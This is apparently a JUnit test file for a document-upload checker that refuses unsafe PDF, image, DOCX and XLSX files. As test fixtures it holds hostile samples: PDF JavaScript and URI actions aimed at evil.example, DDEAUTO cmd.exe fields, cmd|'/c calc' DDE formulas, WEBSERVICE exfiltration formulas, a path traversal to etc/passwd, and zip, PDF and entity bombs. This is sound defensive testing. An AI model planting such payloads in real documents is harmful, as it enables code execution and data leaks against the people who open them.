package vn.motcua.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.motcua.vocabulary.InvalidInput;

class ContentCheckTest {

    private static final long LIMIT = 20 << 20;
    private static final String SCRIPT = "9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n";

    @TempDir
    Path folder;

    private ContentStore contents;
    private final ContentCheck check = new ContentCheck(new BoundedWork(Duration.ofSeconds(10)));

    @BeforeEach
    void openStore() throws IOException {
        contents = new ContentStore(folder, Instant.EPOCH);
    }

    @Test
    void theFiveKindsAreTakenIn() throws IOException {
        assertThat(check(SampleFiles.pdf(), "đơn.pdf").type()).isEqualTo(FileType.PDF);
        assertThat(check(SampleFiles.picture("jpeg"), "ảnh.JPG").type()).isEqualTo(FileType.JPEG);
        assertThat(check(SampleFiles.picture("png"), "ảnh.png").type()).isEqualTo(FileType.PNG);
        assertThat(check(SampleFiles.word(), "tờ khai.docx").type()).isEqualTo(FileType.DOCX);
        assertThat(check(SampleFiles.excel(), "bảng kê.xlsx").type()).isEqualTo(FileType.XLSX);
    }

    @Test
    void aNameWithoutAnEndingGetsThatOfItsContent() throws IOException {
        assertThat(check(SampleFiles.pdf(), "don").name()).hasToString("don.pdf");
    }

    @Test
    void aNameThatSaysSomethingElseThanTheContentIsRefused() {
        assertRefused(SampleFiles.pdf(), "ảnh.jpg", "không khớp");
        assertRefused(SampleFiles.word(), "bảng.xlsx", "không khớp");
        assertRefused(SampleFiles.pdf(), "đơn.pdf.exe", "không khớp");
    }

    @Test
    void otherKindsAreRefusedWithAdvice() {
        assertRefused("MZ\u0090\0 a program".getBytes(StandardCharsets.ISO_8859_1), "đơn.pdf", "không được nhận");
        assertRefused("<html><script>1</script></html>".getBytes(StandardCharsets.UTF_8), "đơn.pdf", "không được nhận");
        assertRefused("một dòng chữ".getBytes(StandardCharsets.UTF_8), "đơn.txt", "không được nhận");
        assertRefused(bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1), "đơn.doc", "DOC");
        assertRefused("\0\0\0\u0018ftypheic\0\0\0\0mif1heic".getBytes(StandardCharsets.ISO_8859_1), "ảnh.heic", "HEIC");
        assertRefused("RIFF\u0020\0\0\0WEBPVP8 ".getBytes(StandardCharsets.ISO_8859_1), "ảnh.webp", "WEBP");
        assertRefused(SampleFiles.zip(java.util.Map.of("a.txt", new byte[10])), "đơn.docx", "ZIP");
    }

    @Test
    void anEncryptedPdfIsRefusedWhetherItOpensWithoutAPasswordOrNot() {
        assertRefused(SampleFiles.encryptedPdf("secret"), "a.pdf", "mật khẩu");
        assertRefused(SampleFiles.encryptedPdf(""), "a.pdf", "mật khẩu");
    }

    @Test
    void aDamagedPdfIsRefused() {
        var half = Arrays.copyOf(SampleFiles.pdf(), 60);
        assertRefused(half, "a.pdf", "bị hỏng");
    }

    @ParameterizedTest
    @ValueSource(strings = {"JavaScript", "Launch", "SubmitForm", "ImportData", "GoToE"})
    void aPdfThatActsIsRefused(String action) {
        assertRefused(SampleFiles.pdfWithAction(action), "a.pdf", "Tệp PDF chứa");
    }

    @Test
    void aPdfWithFilesInsideIsRefused() {
        var files = SampleFiles.pdf(catalog -> {
            var names = new COSDictionary();
            names.setItem(COSName.getPDFName("EmbeddedFiles"), new COSDictionary());
            catalog.setItem(COSName.NAMES, names);
        });
        assertRefused(files, "a.pdf", "đính kèm");
    }

    @Test
    void aPdfWithAnXfaFormIsRefused() {
        var form = SampleFiles.pdf(catalog -> {
            var fields = new COSDictionary();
            fields.setItem(COSName.getPDFName("XFA"), new COSArray());
            catalog.setItem(COSName.ACRO_FORM, fields);
        });
        assertRefused(form, "a.pdf", "XFA");
    }

    @Test
    void aScriptDeepInsideAPdfIsFound() {
        var hidden = SampleFiles.pdf(catalog -> {
            var array = new COSArray();
            var inner = new COSDictionary();
            inner.setItem(COSName.JS, new COSString("app.alert(1)"));
            array.add(inner);
            catalog.setItem(COSName.getPDFName("Anything"), array);
        });
        assertRefused(hidden, "a.pdf", "JavaScript");
    }

    @Test
    void aPdfBombIsRefusedWithinBounds() throws IOException {
        var bomb = SampleFiles.pdfBomb(100 << 20);
        assertThat(bomb.length).isLessThan(200 << 10);

        assertBounded(() -> assertRefused(bomb, "a.pdf", "nén bất thường"));
    }

    @Test
    void aPdfWithAHarmlessObjectStreamIsTakenIn() throws IOException {
        assertThat(check(SampleFiles.pdfBomb(1000), "a.pdf").type()).isEqualTo(FileType.PDF);
    }

    @Test
    void aZipBombIsRefusedWithinBounds() {
        var parts = SampleFiles.wordParts();
        parts.put("word/media/image1.png", new byte[60 << 20]);
        var bomb = SampleFiles.zip(parts);
        parts.clear();

        assertBounded(() -> assertRefused(bomb, "a.docx", "phình to"));
    }

    @Test
    void tooManyEntriesAreRefused() {
        var parts = SampleFiles.wordParts();
        for (int i = 0; i < 4_000; i++) {
            parts.put("word/" + i + ".xml", new byte[0]);
        }
        assertRefused(SampleFiles.zip(parts), "a.docx", "nén bất thường");
    }

    @Test
    void macrosAreRefusedByPartAndByDeclaredType() {
        assertRefused(SampleFiles.wordWith("word/vbaProject.bin", "x"), "a.docx", "macro");
        assertRefused(
                SampleFiles.wordWith(
                        SampleFiles.TYPES_PART,
                        "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"),
                "a.docx",
                "macro");
    }

    @Test
    void embeddedFilesOutsideTemplatesAndPathTricksAreRefused() {
        assertRefused(SampleFiles.wordWith("word/embeddings/oleObject1.bin", "x"), "a.docx", "nhúng");
        assertRefused(SampleFiles.wordWith("word/../../etc/passwd", "x"), "a.docx", "đường dẫn");
        assertRefused(
                SampleFiles.wordWith(
                        "word/_rels/settings.xml.rels",
                        "<Relationships><Relationship Type='http://x/attachedTemplate' TargetMode='External' Target='http://x'/></Relationships>"),
                "a.docx",
                "bên ngoài");
    }

    @Test
    void anEntityBombInADeclarationIsRefused() {
        assertRefused(
                SampleFiles.wordWith(
                        "word/_rels/document.xml.rels",
                        "<!DOCTYPE a [<!ENTITY b 'bbbbbbbb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>"),
                "a.docx",
                "bị hỏng");
    }

    @Test
    void aPixelBombIsRefusedBeforeItIsDecoded() {
        assertBounded(() -> assertRefused(SampleFiles.pngSaying(30_000, 30_000), "a.png", "quá lớn"));
    }

    @Test
    void aPictureThatCannotBeDecodedIsRefused() throws IOException {
        assertRefused(SampleFiles.pngSaying(100, 100), "a.png", "bị hỏng");
        var jpeg = SampleFiles.picture("jpeg");
        assertRefused(Arrays.copyOf(jpeg, jpeg.length / 2), "a.jpg", "bị hỏng");
    }

    @Test
    void aPhotoKeepsWhichWayIsUpAndLosesTheRest() throws IOException {
        var clean = Files.readAllBytes(
                check(SampleFiles.photo(6, "109.2235 E"), "a.jpg").content().path());

        assertThat(new String(clean, StandardCharsets.ISO_8859_1)).doesNotContain("109.2235");
        assertThat(contains(clean, Orientation.segment(6))).isTrue();
        assertSamePixels(clean, SampleFiles.picture("jpeg"));
    }

    @Test
    void aPngLosesItsTextAndKeepsItsPixels() throws IOException {
        var plain = SampleFiles.picture("png");
        var clean = Files.readAllBytes(
                check(SampleFiles.withText(plain, "secret"), "a.png").content().path());

        assertThat(new String(clean, StandardCharsets.ISO_8859_1)).doesNotContain("secret");
        assertSamePixels(clean, plain);
    }

    @Test
    void aPdfOfObjectsWithoutEndsIsRefusedAtOnceAndNotSearched() {
        var hasty = new ContentCheck(new BoundedWork(Duration.ofSeconds(3)));
        var headings = new StringBuilder("%PDF-1.4\n");
        for (int i = 1; i < 300_000; i++) {
            headings.append(i).append(" 0 obj<</Length 99999999>>stream\n");
        }
        assertRefused(hasty, latin(headings.toString()), "bị hỏng");
        assertRefused(hasty, SamplePdf.ofObjectsWithoutEnds(150_000), "bị hỏng");
    }

    @Test
    void aReadingThatIsGivenUpEndsAtItsNextByte() throws IOException {
        var received = contents.receive(new ByteArrayInputStream(SampleFiles.pdf()), LIMIT);
        try (var reading = new StoppableRead(received.path().toFile())) {
            Thread.currentThread().interrupt();
            assertThatThrownBy(reading::read).isInstanceOf(java.util.concurrent.CancellationException.class);
        } finally {
            assertThat(Thread.interrupted()).isTrue();
        }
    }

    @Test
    void whatIsWrittenIntoThePdfsOfTheseTestsByHandIsTakenInWhenItIsWhole() throws IOException {
        assertThat(check(SamplePdf.plain().build(), "a.pdf").type()).isEqualTo(FileType.PDF);
        assertThat(check(SamplePdf.plain().object(4, "(1 0 R)").build(), "a.pdf")
                        .type())
                .isEqualTo(FileType.PDF);
    }

    @ParameterizedTest
    @ValueSource(ints = {-7, 2, 99_999})
    void aPdfThatReadersWouldRepairEachInTheirWayIsRefused(int wrong) {
        assertRefused(SamplePdf.plain().wrongBy(wrong).build(), "a.pdf", "in lại");
        assertRefused(SamplePdf.opening("9 0 R").hidden(SCRIPT).wrongBy(wrong).build(), "a.pdf", "in lại");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                SCRIPT,
                "9 0 %\nobj<</S/JavaScript/JS(app.alert(1))>>endobj\n",
                "9\u00a00\u000bobj<</S/JavaScript/JS(app.alert(1))>>endobj\n",
                "trailer<</Root<</OpenAction<</S/JavaScript/JS(1)>>>>>>\n",
                "startxref\n9\n%%EOF\n",
            })
    void whatTheCrossReferenceOfAPdfDoesNotKnowIsRefused(String hidden) {
        boolean isBehind = hidden.startsWith("startxref");
        var pdf = SamplePdf.opening("9 0 R").hidden(isBehind ? "" : hidden).build();
        var tail = isBehind ? "startxref\n9\n" : "";
        assertRefused(latin(new String(pdf, StandardCharsets.ISO_8859_1) + tail), "a.pdf", "mục lục");
    }

    @Test
    void anObjectHiddenInAStreamIsRefused() {
        var stream = "<</Length 54>>stream\nendobj\n" + SCRIPT.strip() + "\nendstream";
        assertRefused(SamplePdf.opening("9 0 R").object(4, stream).build(), "a.pdf", "mục lục");
    }

    @Test
    void whatAPdfReplacedOrFreedIsStillLookedAt() throws IOException {
        var script = SamplePdf.plain()
                .object(4, "<</S/JavaScript/JS(app.alert(1))>>")
                .build();
        var plain = SamplePdf.plain().object(4, "<<>>").build();

        assertThat(check(SamplePdf.replacing(plain, 4, "(other)"), "a.pdf").type())
                .isEqualTo(FileType.PDF);
        assertRefused(SamplePdf.replacing(script, 4, "(other)"), "a.pdf", "JavaScript");
    }

    @Test
    void anObjectPackedInsideAnotherIsFound() throws IOException {
        var object = "<</A(<</S/Launch>>)>>";
        assertThat(check(SamplePdf.packing("6 0 7 0 ", object), "a.pdf").type()).isEqualTo(FileType.PDF);
        assertRefused(SamplePdf.packing("6 0 7 5 ", object), "a.pdf", "mở chương trình");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example/)>>>>",
                "<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/Print>><</S/URI/URI(http://evil.example/)>>]>>",
                "<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>",
            })
    void aPdfThatGoesOutWithItsSecondActionIsRefused(String actions) {
        var next = "<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil.example/)>>]>>";
        assertRefused(SamplePdf.opening(actions).object(4, next).build(), "a.pdf", "trang mạng");
    }

    @Test
    void actionsThatFollowEachOtherInACircleComeToAnEnd() throws IOException {
        var circle = SamplePdf.opening("4 0 R")
                .object(4, "<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>")
                .build();
        assertThat(check(circle, "a.pdf").type()).isEqualTo(FileType.PDF);
    }

    @Test
    void aPdfWhoseContentLiesInAnotherFileIsRefused() {
        var stream = "<</Length 0/F(\\\\\\\\evil\\\\a)/FFilter/FlateDecode>>stream\n\nendstream";
        var other = "<</Type/XObject/Subtype/Form/Length 0/Ref<</F(a.pdf)/Page 0>>>>stream\n\nendstream";
        assertRefused(SamplePdf.plain().object(4, stream).build(), "a.pdf", "mở tệp khác");
        assertRefused(SamplePdf.plain().object(4, other).build(), "a.pdf", "mở tệp khác");
    }

    @Test
    void aPdfThatOpensSomethingElseByItselfIsRefused() {
        assertRefused(SampleFiles.pdfWithAction("GoToR"), "a.pdf", "mở tệp khác");
        assertRefused(SampleFiles.pdfThatGoesOut(COSName.OPEN_ACTION), "a.pdf", "trang mạng");
        assertRefused(SampleFiles.pdfThatGoesOut(COSName.getPDFName("WC")), "a.pdf", "trang mạng");
        assertRefused(SampleFiles.pdfWithAction("Rendition"), "a.pdf", "phim");
    }

    @Test
    void whatAnOfficeFileLoadsOrHidesIsFoundHoweverItsPartsAreNamed() {
        var template =
                "<Relationships><Relationship Type='x/attachedTemplate' TargetMode='External' Target='http://a/b'/></Relationships>";
        var chunk = "<Relationships><Relationship Type='x/aFChunk' Target='/word/a.mht'/></Relationships>";

        assertRefused(SampleFiles.wordWith("word/_rels/settings.xml.RELS", template), "a.docx", "bên ngoài");
        assertRefused(SampleFiles.wordWith("word/_rels/document.xml.rels", chunk), "a.docx", "nhúng");
        assertRefused(SampleFiles.wordWith("xl/connections.xml", "<connections/>"), "a.docx", "bên ngoài");
        assertRefused(SampleFiles.wordWith("xl/externalLinks/externalLink1.xml", "<x/>"), "a.docx", "bên ngoài");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k",
                " dde excel a",
                "INCLUDEPICTURE http://evil.example/x.png \\d",
                "INCLUDETEXT \\\\\\\\evil.example\\\\a.docx",
                "INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE x",
                "INC</w:instrText></w:r><w:r><w:t>LUDETEXT x</w:t></w:r><w:r><w:instrText>",
                "</w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>QUOTE 68 68 69</w:instrText>"
                        + "<w:fldChar w:fldCharType='end'/><w:instrText> cmd",
            })
    void aFieldThatLoadsOrCallsIsRefusedHoweverItIsPieced(String instruction) {
        assertRefused(SampleFiles.wordWith("word/document.xml", field(instruction)), "a.docx", "bên ngoài");
        assertRefused(SampleFiles.wordWith("word/odd.name", field(instruction)), "a.docx", "bên ngoài");
    }

    @Test
    void aFieldInOnePieceThatLoadsIsRefused() {
        var simple = word("<w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/x.png\" '/>");
        assertRefused(SampleFiles.wordWith("word/document.xml", simple), "a.docx", "bên ngoài");
    }

    @Test
    void fieldsThatWordWritesItselfAreTakenIn() throws IOException {
        var nested = "IF </w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>PAGE</w:instrText>"
                + "<w:fldChar w:fldCharType='separate'/><w:t>1</w:t><w:fldChar w:fldCharType='end'/><w:instrText> = 1 a b";
        var contents = "TOC</w:instrText><w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='begin'/>"
                + "<w:instrText>HYPERLINK \\l _Toc1</w:instrText><w:fldChar w:fldCharType='end'/><w:instrText>";
        for (var instruction :
                List.of("PAGE", " MERGEFIELD Address ", "=</w:instrText><w:instrText>1+1", nested, contents)) {
            assertThat(check(SampleFiles.wordWith("word/document.xml", field(instruction)), "a.docx")
                            .type())
                    .isEqualTo(FileType.DOCX);
        }
    }

    @Test
    void aDrawingWhosePictureLiesElsewhereIsRefusedAndALinkIsNot() throws IOException {
        var shape =
                "<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='http://a.example/'><v:imagedata src='%s'/>%s</v:shape>";

        assertRefused(drawing(shape.formatted("http://evil.example/x.png", "")), "a.docx", "bên ngoài");
        assertRefused(drawing(shape.formatted("\\\\evil\\a.png", "<br>")), "a.docx", "bên ngoài");
        assertThat(check(drawing(shape.formatted("image1.png", "<br>")), "a.docx")
                        .type())
                .isEqualTo(FileType.DOCX);
    }

    private static byte[] drawing(String shape) {
        return SampleFiles.wordWith("word/drawing1.vml", shape);
    }

    @ParameterizedTest
    @ValueSource(strings = {"externalLink", "connections", "queryTable", "attachedTemplate"})
    void whatASheetLoadsIsFoundByItsRelationWhateverThePartIsCalled(String relation) {
        var relations = "<Relationships><Relationship Id='r' Type='http://x/relationships/" + relation
                + "' Target='foo/c.xml'/></Relationships>";
        assertRefused(SampleFiles.excelWith("xl/_rels/workbook.xml.rels", relations), "a.xlsx", "bên ngoài");
    }

    @Test
    void whatASheetLoadsIsFoundByItsTypeAndByItsContentToo() {
        var types =
                "<Types><Override PartName='/xl/foo/c.xml' ContentType='application/vnd.openxmlformats-officedocument."
                        + "spreadsheetml.connections+xml'/></Types>";
        var link = "<externalReference><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalReference>";
        assertRefused(SampleFiles.excelWith(SampleFiles.TYPES_PART, types), "a.xlsx", "bên ngoài");
        assertRefused(SampleFiles.excelWith("xl/foo/dde.bin", link), "a.xlsx", "bên ngoài");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<f>_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;B1)</f>",
                "<f>cmd|'/c calc'!A0</f>",
                "<f>'cmd'|'/c calc'!A0</f>",
                "<f>1+rtd (\"a\")</f>",
                "<definedName>'\\\\evil\\a\\[b.xlsx]S'!A1</definedName>",
                "<formula1>IMAGE(A1)</formula1>",
            })
    void aFormulaThatLoadsOrCallsIsRefused(String formula) {
        assertRefused(SampleFiles.excelWith("xl/worksheets/sheet1.xml", cells(formula)), "a.xlsx", "bên ngoài");
    }

    @Test
    void formulasThatReckonAreTakenIn() throws IOException {
        var plain = "<f>IF(A1=\"a|b http://c\",SUM('x|y'!A1:B2),HYPERLINK(\"http://a.example\",\"a\"))</f>";
        var random = new Random(7);
        var many = new StringBuilder(plain);
        for (int i = 0; i < 100_000; i++) {
            many.append("<c r='A")
                    .append(i)
                    .append("'><f>A1*")
                    .append(random.nextInt())
                    .append("</f></c>");
        }
        assertThat(check(SampleFiles.excelWith("xl/worksheets/sheet1.xml", cells(many.toString())), "a.xlsx")
                        .type())
                .isEqualTo(FileType.XLSX);
    }

    private static String cells(String formulas) {
        return "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>" + formulas
                + "</worksheet>";
    }

    private static String field(String instruction) {
        return word("<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>" + instruction
                + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>");
    }

    private static String word(String text) {
        return "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>" + text
                + "</w:document>";
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Test
    void workThatTakesTooLongIsGivenUp() {
        var hasty = new BoundedWork(Duration.ofMillis(50));
        assertThatThrownBy(() -> hasty.run(ContentCheckTest::neverEnding))
                .isInstanceOf(InvalidInput.class)
                .hasMessageContaining("thời gian");
    }

    private static void neverEnding() {
        while (!Thread.currentThread().isInterrupted()) {
            Thread.onSpinWait();
        }
    }

    private ContentCheck.Checked check(byte[] content, String name) throws IOException {
        var received = contents.receive(new ByteArrayInputStream(content), LIMIT);
        return check.check(received, FileName.of(name), contents);
    }

    private void assertRefused(ContentCheck check, byte[] content, String reason) {
        assertThatThrownBy(() -> check.check(
                        contents.receive(new ByteArrayInputStream(content), LIMIT), FileName.of("a.pdf"), contents))
                .isInstanceOf(InvalidInput.class)
                .hasMessageContaining(reason);
    }

    private void assertRefused(byte[] content, String name, String reason) {
        assertThatThrownBy(() -> check(content, name))
                .isInstanceOf(InvalidInput.class)
                .hasMessageContaining(reason);
    }

    private interface Work {
        void run() throws IOException;
    }

    private static void assertBounded(Work work) {
        var memory = ManagementFactory.getMemoryMXBean();
        System.gc();
        long before = memory.getHeapMemoryUsage().getUsed();
        long start = System.nanoTime();
        try {
            work.run();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10));
        assumeThat(before).isPositive();
        assertThat(memory.getHeapMemoryUsage().getUsed() - before).isLessThan(256L << 20);
    }

    private static void assertSamePixels(byte[] one, byte[] other) throws IOException {
        var first = ImageIO.read(new ByteArrayInputStream(one));
        var second = ImageIO.read(new ByteArrayInputStream(other));
        int width = first.getWidth();
        int height = first.getHeight();
        assertThat(first.getRGB(0, 0, width, height, null, 0, width))
                .isEqualTo(second.getRGB(0, 0, width, height, null, 0, width));
    }

    private static boolean contains(byte[] all, byte[] part) {
        return new String(all, StandardCharsets.ISO_8859_1).contains(new String(part, StandardCharsets.ISO_8859_1));
    }

    private static byte[] bytes(int... values) {
        var bytes = new byte[512];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }
}
